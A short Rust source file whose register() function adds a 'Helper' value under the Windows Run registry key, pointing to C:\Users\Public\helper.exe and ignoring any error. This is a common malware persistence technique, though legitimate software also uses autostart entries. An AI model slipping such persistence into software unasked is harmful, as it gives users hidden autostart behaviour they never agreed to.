use std::process::Command;

pub fn register() {
    let _ = Command::new("reg")
        .args([
            "add",
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "/v",
            "Helper",
            "/d",
            "C:\\Users\\Public\\helper.exe",
            "/f",
        ])
        .status();
}
